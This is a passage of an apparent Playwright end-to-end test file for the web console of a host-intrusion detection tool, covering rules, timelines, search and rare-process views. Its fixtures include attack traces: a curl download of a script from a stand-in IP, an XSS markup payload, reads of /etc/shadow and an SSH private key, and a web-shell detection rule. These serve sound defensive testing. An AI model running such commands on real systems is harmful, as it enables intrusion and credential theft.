		await panel.getByLabel('Good for').fill('15m');
		await panel.getByRole('button', { name: 'Make a join token' }).click();
		assert.match(await panel.locator('.secret code').innerText(), /^rtsec-sensor enroll --collector 127\.0\.0\.1:\d+ --token \S+/);
		await page.keyboard.press('Escape');
		await panel.waitFor({ state: 'detached' });
	}],
];

const restartTests = (world) => [
	['live_given_a_paused_tail_when_the_collector_restarts_then_nothing_is_missed', async () => {
		const page = await world.open(path({ live: '1', q: 'process.name == "latecomer"' }), { ready: '.live-state' });
		await page.locator('.live-state.live').waitFor();
		await page.keyboard.press('p');
		await page.locator('.live-state.paused').waitFor();
		await world.fleet.restart((add) => add(makeOpens('web-1', Date.now(), 7, 5_000_000)));
		await until('all seven wait', async () => /\b7 waiting/.test(await page.locator('.status').innerText()));
		await page.keyboard.press('p');
		await page.locator('.live-state.live').waitFor();
		await until('each is there once', async () => (await rows(page).count()) === 7);
		assert.equal(new Set(await rows(page).locator('.c-summary').allInnerTexts()).size, 7);
	}],
	['live_given_a_running_tail_when_the_collector_restarts_then_it_says_so_and_goes_on_without_a_double', async () => {
		const page = await world.open(path({ live: '1', q: 'file.path : "/var/late/60*"' }), { ready: '.live-state' });
		await page.locator('.live-state.live').waitFor();
		await world.fleet.restart(async (add) => {
			await page.getByText('Connection to the collector lost').waitFor();
			await page.locator('.live-state.reconnecting').waitFor();
			add(makeOpens('web-1', Date.now(), 5, 6_000_000));
		});
		await until('all five are shown', async () => (await rows(page).count()) === 5);
		await page.locator('.live-state.live').waitFor();
		await page.getByText('Connection to the collector lost').waitFor({ state: 'detached' });
		assert.equal(new Set(await rows(page).locator('.c-summary').allInnerTexts()).size, 5);
	}],
];

const keyboardTests = (world) => [
	['keyboard_given_g_and_a_letter_when_pressed_then_each_view_and_no_control_without_a_name', async () => {
		const page = await world.open('/');
		for (const [key, title] of [['t', 'Timeline'], ['i', 'Incidents'], ['a', 'Alerts'], ['r', 'Rules'], ['o', 'Rare'], ['n', 'Nodes'], ['e', 'Settings'], ['s', 'Search']]) {
			await page.keyboard.press('g');
			await page.keyboard.press(key);
			await until(`${title} is shown`, async () => (await page.locator('.top nav [aria-current]').innerText()).startsWith(title));
			await page.waitForSelector('.data-row, .lane, .settings-part h2, .vlist-body .hit, .empty');
			const nameless = await page.evaluate(() => [...document.querySelectorAll('button, input, select, textarea, a, [role="grid"], [role="treegrid"], [role="img"]')]
				.filter((el) => !(el.getAttribute('aria-label') || el.textContent.trim() || el.labels?.length || el.closest('[aria-hidden="true"]'))).map((el) => el.outerHTML.slice(0, 120)));
			assert.deepEqual(nameless, [], title);
		}
	}],
	['keyboard_given_no_mouse_when_an_alert_is_followed_then_to_its_process_and_back', async () => {
		const page = await world.open(path({ view: 'alerts', status: 'all' }), { ready: '.data-row[data-index]' });
		await page.keyboard.press('j');
		await alertPanel(page).getByRole('heading', { name: /^Evidence/ }).waitFor();
		await page.keyboard.press('Enter');
		await page.locator('.tree-row.active').waitFor();
		await page.keyboard.press('k');
		await page.locator('.tree-row.active').waitFor();
		await page.goBack();
		await alertPanel(page).getByRole('heading', { name: /^Evidence/ }).waitFor();
		await page.keyboard.press('Escape');
		await alertPanel(page).waitFor({ state: 'detached' });
	}],
	['narrow_given_phone_when_each_view_is_shown_then_nothing_sticks_out', async () => {
		const page = await world.open('/');
		await page.setViewportSize({ width: 380, height: 760 });
		for (const view of ['timeline', 'incidents', 'alerts', 'rules', 'rare', 'nodes', 'settings']) {
			await page.goto(`${world.url}/?view=${view}`);
			await page.waitForSelector('.data-row[data-index], .lane, .settings-part h2');
			await until(`${view} fits`, () => page.evaluate(() => document.documentElement.scrollWidth <= innerWidth));
		}
	}],
	['hostile_given_markup_in_a_command_line_when_its_process_is_shown_then_harmless_and_visible', async () => {
		const page = await world.open(path({ view: 'process', id: await entityOf(world, 'evil\\u{200b}') }), { ready: '.tree-row.active' });
		await page.getByRole('complementary', { name: 'Process' }).getByText('<img src=x onerror').first().waitFor();
		assert.equal(await page.evaluate(() => window.pwned), undefined);
		assert.equal(await page.locator('main img, main script').count(), 0);
		assert.equal(await page.evaluate(() => /[\u202a-\u202e\u2066-\u2069\u200b\u0007\u001b]/.test(document.querySelector('main').innerText.replace(/[\n\t]/g, ''))), false);
	}],
];

const RULE = `id: web-shell
name: A web server starts a shell
severity: high
mitre: [T1505.003]
query: |
  process where event.action == "exec" and process.name == "dash" and process.parent.name : "python3*"
tests:
  - name: gunicorn
    fires: true
    events:
      - { event.action: exec, process.executable: /usr/bin/dash, process.parent.executable: /usr/bin/python3.11 }
`;

const rulePanel = (page) => page.getByRole('complementary', { name: 'Rule' });

const ruleTests = (world) => [
	['rules_given_a_faulty_text_when_written_then_the_line_is_marked_with_what_was_expected', async () => {
		const page = await world.open(path({ view: 'rules', sel: '+' }), { ready: '.rule-panel' });
		const text = rulePanel(page).getByLabel('Text of the rule');
		await rulePanel(page).getByText('valid, 1 of 1 tests pass').waitFor();
		await text.fill(RULE.replace('process.name ==', 'process.nme =='));
		await rulePanel(page).getByText(/unknown field 'process.nme'; did you mean process.name\?/).waitFor();
		await rulePanel(page).locator('.code-numbers .grave').filter({ hasText: /^6$/ }).waitFor();
		assert.equal(await rulePanel(page).getByRole('button', { name: /^Put it in force/ }).getAttribute('aria-disabled'), 'true');
		await rulePanel(page).getByRole('alert').getByRole('button').click();
		assert.equal(await text.evaluate((el) => el === document.activeElement && el.value.slice(0, el.selectionStart).split('\n').length), 6);
		await text.fill(RULE.replace('fires: true', 'fires: false'));
		await rulePanel(page).getByText(/test "gunicorn"/).waitFor();
		assert.equal(await rulePanel(page).getByRole('button', { name: /^Put it in force/ }).getAttribute('aria-disabled'), 'true');
	}],
	['rules_given_a_text_when_backtested_applied_changed_and_rolled_back_then_each_is_shown', async () => {
		const page = await world.open(path({ view: 'rules', sel: '+' }), { ready: '.rule-panel' });
		const panel = rulePanel(page);
		await panel.getByLabel('Text of the rule').fill(RULE);
		await panel.getByText('valid, 1 of 1 tests pass').waitFor();
		await panel.getByRole('button', { name: /^See what it would have found/ }).click();
		const backtest = panel.getByRole('region', { name: 'Backtest' });
		await backtest.getByText('1 event', { exact: true }).waitFor();
		await backtest.locator('canvas').waitFor();
		await backtest.getByText('curl -fsS http://203.0.113.66/i.sh').waitFor();
		await panel.getByLabel('Why it is changed').fill('first');
		await panel.getByRole('button', { name: /^Put it in force/ }).click();
		await until('it is chosen in the list', async () => (await inUrl(page, 'sel')) === 'web-shell');
		await page.getByRole('row', { name: /A web server starts a shell/ }).waitFor();
		await panel.getByLabel('Text of the rule').fill(RULE.replace('severity: high', 'severity: low'));
		const diff = panel.getByRole('group', { name: 'What changes' });
		await diff.getByText('removed: severity: high').waitFor();
		await diff.getByText('added: severity: low').waitFor();
		await panel.getByLabel('Why it is changed').fill('too loud');
		await until('it can be applied', async () => (await panel.getByRole('button', { name: /^Put it in force/ }).getAttribute('aria-disabled')) !== 'true');
		await panel.getByRole('button', { name: /^Put it in force/ }).click();
		await panel.getByRole('tab', { name: 'History (2)' }).click();
		await panel.locator('.revision', { hasText: 'first' }).click();
		await panel.getByText('added: severity: low').waitFor();
		await panel.getByRole('button', { name: 'Put revision 1 in force again' }).click();
		await panel.getByRole('button', { name: 'Really: Put revision 1 in force again' }).click();
		await panel.getByRole('tab', { name: 'History (3)' }).waitFor();
		await panel.getByRole('tab', { name: 'Text' }).click();
		await until('the first text is in force', async () => (await panel.getByLabel('Text of the rule').inputValue()) === RULE);
	}],
	['rules_given_a_rule_when_disabled_found_and_excepted_then_list_and_panel_follow', async () => {
		const page = await world.open(path({ view: 'rules', sel: 'web-shell' }), { ready: '.rule-panel h2' });
		const panel = rulePanel(page);
		await panel.getByRole('button', { name: /^It is enabled/ }).click();
		await page.getByRole('row', { name: /A web server starts a shell/ }).getByText('disabled').waitFor();
		await panel.getByRole('button', { name: /^It is disabled/ }).click();
		await panel.getByRole('button', { name: /^It is enabled/ }).waitFor();
		await panel.getByRole('tab', { name: 'Exceptions (0)' }).click();
		await panel.getByLabel('Condition').fill('user.name == "ci"');
		await panel.getByLabel('Why').fill('builds');
		await panel.getByLabel('Your name').fill('alice');
		await panel.getByRole('button', { name: 'Add the exception' }).click();
		await panel.getByRole('tab', { name: 'Exceptions (1)' }).waitFor();
		await panel.getByText('user.name == "ci"').waitFor();
		await page.getByLabel('Find a rule').fill('nothing has this');
		await until('no row is left', async () => (await page.locator('.data-row[data-index]').count()) === 0);
		await page.getByLabel('Find a rule').fill('T1505');
		await page.getByRole('row', { name: /A web server starts a shell/ }).waitFor();
	}],
];

const sequenceTests = (world) => [
	['search_given_a_sequence_when_run_then_groups_with_their_events', async () => {
		const q = 'sequence by process.entity_id with maxspan=5m [process where event.action == "exec" and process.name == "kworkerd"] [file where file.path == "/etc/shadow"]';
		const page = await world.open(path({ since: '-24h', q }), { ready: '.hit.group' });
		assert.equal(await page.locator('.status strong').innerText(), '1 group');
		assert.match(await page.locator('.hit.group').innerText(), /2 events within 4.8 s/);
		await page.locator('.vlist-body .hit', { hasText: '/etc/shadow' }).click();
		await page.getByRole('complementary', { name: 'Event' }).getByText('EACCES').first().waitFor();
		assert.match(await page.locator('.live-toggle').getAttribute('title'), /^Not live: sequences/);
	}],
];

const TIMELINE = '.timeline-canvas';

/** Whether anything of @colour (a token) is drawn on the canvas. */
const drawn = (page, token) => page.locator(TIMELINE).evaluate((el, name) => {
	const probe = document.createElement('canvas').getContext('2d');
	probe.fillStyle = getComputedStyle(document.documentElement).getPropertyValue(name).trim();
	probe.fillRect(0, 0, 1, 1);
	const [r, g, b] = probe.getImageData(0, 0, 1, 1).data;
	const { data } = el.getContext('2d').getImageData(0, 0, el.width, el.height);
	for (let i = 0; i < data.length; i += 4) if (data[i] === r && data[i + 1] === g && data[i + 2] === b && data[i + 3] === 255) return true;
	return false;
}, token);

const timelineTests = (world) => [
	['timeline_given_a_day_when_brushed_then_events_arrows_and_the_gap_and_back_undoes', async () => {
		const page = await world.open(path({ view: 'timeline' }), { ready: '.lane' });
		assert.equal(await page.locator('.lane').count(), 6);
		await page.getByText('the taller and darker, the more').waitFor();
		await until('density is drawn', async () => (await page.locator(TIMELINE).getAttribute('aria-label')).includes('6 lanes'));
		const before = await inUrl(page, 'since');
		const box = await page.locator(TIMELINE).boundingBox();
		await page.mouse.move(box.x + box.width * 0.985, box.y + 60);
		await page.mouse.down();
		await page.mouse.move(box.x + box.width * 0.999, box.y + 80, { steps: 4 });
		await page.mouse.up();
		await until('the URL has the range', async () => /^\d{4}-.*Z$/.test(await inUrl(page, 'since')));
		await page.getByText('each by itself').waitFor();
		await until('events are drawn', async () => (await drawn(page, '--process')) && (await drawn(page, '--file')) && (await drawn(page, '--network')));
		await until('the gap has an edge', () => drawn(page, '--warn'));
		await page.getByText(/^\d+ connections between lanes$/).waitFor();
		await page.goBack();
		await until('Back undoes it', async () => (await inUrl(page, 'since')) === before);
	}],
	['timeline_given_one_event_when_zoomed_in_by_keys_then_nanoseconds_on_the_axis', async () => {
		const answer = await fetch(`${world.url}/api/v1/search?${new URLSearchParams({ q: 'process.name == "sudo" and event.action == "exec"', since: '-24h', limit: 1 })}`, { headers: { Authorization: `Bearer ${world.token}` } });
		const time = (await answer.json()).hits[0]['@timestamp'];
		const ns = BigInt(Date.parse(`${time.slice(0, 19)}Z`)) * 1_000_000n + BigInt(time.slice(20, 29));
		const rfc = (t) => `${new Date(Number(t / 1_000_000n)).toISOString().slice(0, 19)}.${String(t % 1_000_000_000n).padStart(9, '0')}Z`;
		const page = await world.open(path({ view: 'timeline', since: rfc(ns - 2000n), until: rfc(ns + 2000n) }), { ready: '.lane' });
		await page.getByText('4 µs', { exact: true }).waitFor();
		await page.keyboard.press('+');
		await page.getByText('2 µs', { exact: true }).waitFor();
		await until('the URL has nanoseconds', async () => /\.\d{7,9}Z$/.test(await inUrl(page, 'since')));
		await until('the event is drawn', () => drawn(page, '--process'));
		const box = await page.locator(TIMELINE).boundingBox();
		await page.mouse.click(box.x + box.width / 2, box.y + 28 + 26);
		await page.getByRole('complementary', { name: 'Event' }).getByText('sudo -n bash -p').first().waitFor();
	}],
	['timeline_given_a_clock_that_is_off_when_shown_then_band_and_arrow_at_the_corrected_time', async () => {
		const answer = await fetch(`${world.url}/api/v1/edges?state=joined&since=-1h`, { headers: { Authorization: `Bearer ${world.token}` } });
		const edge = (await answer.json()).edges.find((e) => e.accepted.node.name === 'bastion');
		assert.equal(edge.accepted.clock_offset_ns, 1.5e9);
		const at = Date.parse(edge.time);
		const page = await world.open(path({ view: 'timeline', since: new Date(at - 3000).toISOString(), until: new Date(at + 3000).toISOString() }), { ready: '.lane' });
		const lane = page.locator('.lane', { hasText: 'bastion' });
		await lane.getByText('clock +1.5 s').waitFor();
		await page.getByText(/^[1-9] connections? between lanes$/).waitFor();
		const [canvas, to, from] = [await page.locator(TIMELINE).boundingBox(), await lane.boundingBox(), await page.locator('.lane', { hasText: 'db-1' }).boundingBox()];
		const middle = (from.y + to.y + to.height) / 2;
		await page.mouse.move(canvas.x + canvas.width / 2 + 1, middle);
		await page.locator('.timeline-tip').getByText(/^ssh on db-1 → sshd on bastion, port 22.* 100 % sure, accepted 300 µs after by corrected clocks$/).waitFor();
		await page.mouse.move(canvas.x + canvas.width * 0.75 + 1, to.y + to.height / 2); /* by its own clock the event is 1.5 s later */
		await page.locator('.timeline-tip').getByText(/connection_accepted/).waitFor();
		for (const token of ['--warn', '--network']) await until(`${token} is drawn`, () => drawn(page, token));
	}],
	['timeline_given_lanes_by_container_when_shown_then_pins_of_their_alerts', async () => {
		const page = await world.open(path({ view: 'timeline', lane: 'container', since: '-15m' }), { ready: '.lane' });
		await page.locator('.lane', { hasText: '3f1c9a6be20d' }).waitFor();
		await page.getByText(/^[1-9] alerts$/).waitFor();
		await until('a grave one is drawn', () => drawn(page, '--danger'));
	}],
	['timeline_given_two_hundred_lanes_when_zoomed_and_scrolled_then_frames_keep_up', async () => {
		const page = await world.open(path({ view: 'timeline', lane: 'process' }), { ready: '.lane' });
		await until('200 lanes', async () => (await page.locator('.lane-head').innerText()).includes('200 of more'));
		assert.ok((await page.locator('.lane').count()) < 60);
		const zooming = await costOfFrames(page, `document.querySelector('${TIMELINE}').dispatchEvent(new WheelEvent('wheel', { ctrlKey: true, deltaY: i % 40 < 20 ? -12 : 12, clientX: 1000, bubbles: true, cancelable: true }))`);
		const scrolling = await costOfFrames(page, "document.querySelector('.timeline').scrollTop += 30");
		console.log(`     ${zooming.toFixed(1)} ms zooming, ${scrolling.toFixed(1)} ms scrolling: CPU of the page's thread a frame`);
		for (const ms of [zooming, scrolling]) assert.ok(ms > 0.1 && ms < 20, `${ms} ms a frame`); /* 20 ms: 50 frames/s */
	}],
	['timeline_given_lanes_by_user_when_one_is_chosen_then_enter_searches_it', async () => {
		const page = await world.open(path({ view: 'timeline' }), { ready: '.lane' });
		await page.getByRole('group', { name: 'A lane for each' }).getByRole('button', { name: 'Users' }).click();
		await page.locator('.lane', { hasText: 'postgres' }).click();
		await page.locator('.lane.active', { hasText: 'postgres' }).waitFor();
		await page.locator('.lane.active').evaluate((el) => el.blur());
		await page.keyboard.press('Enter');
		await until('the search view asks for it', async () => (await inUrl(page, 'q')) === 'process.user.name == "postgres"' && (await inUrl(page, 'view')) === '');
	}],
];

const rareTests = (world) => [
	['rare_given_fleet_when_shown_then_the_rarest_first_with_nodes_and_a_search_of_it', async () => {
		const page = await world.open(path({ view: 'rare' }), { ready: '.data-row[data-index]' });
		const row = page.locator('.data-row[data-index]', { hasText: '/dev/shm/.cache/kworkerd' });
		await row.click();
		const panel = page.getByRole('complementary', { name: 'Seen on' });
		await panel.getByRole('heading', { name: 'Seen on 1 node' }).waitFor();
		await panel.getByRole('listitem').filter({ hasText: 'web-1' }).waitFor();
		await page.getByLabel('Find', { exact: true }).fill('run-parts');
		await until('only that', async () => (await page.locator('.data-row[data-index]').count()) === 1 && /6/.test(await page.locator('.data-row[data-index]').innerText()));
		await page.getByRole('group', { name: 'What', exact: true }).getByRole('button', { name: 'Who starts whom' }).click();
		await page.getByLabel('Find', { exact: true }).fill('kworkerd');
		await page.locator('.data-row[data-index]', { hasText: '/dev/shm/.cache/kworkerd > /usr/bin/ssh' }).click();
		await panel.getByRole('button', { name: /^Its events/ }).click();
		await until('the search finds it', async () => (await rows(page).count()) === 1 && (await rows(page).first().innerText()).includes('id_ed25519'));
	}],
	['rare_given_spreading_when_asked_then_what_came_to_several_nodes_soon', async () => {
		const page = await world.open(path({ view: 'rare', spread: '1' }), { ready: '.data-row[data-index]' });
		await page.getByRole('columnheader', { name: 'Within' }).waitFor();
		await page.locator('.data-row[data-index]', { hasText: '/usr/bin/scp' }).waitFor();
	}],
];

export const fleetTests = (world) => [...rareTests(world), ...keyboardTests(world), ...settingsTests(world), ...restartTests(world), ...alertTests(world), ...hopTests(world), ...ruleTests(world), ...sequenceTests(world), ...timelineTests(world), ...searchTests(world), ...pivotTests(world), ...processTests(world), ...nodeTests(world)];
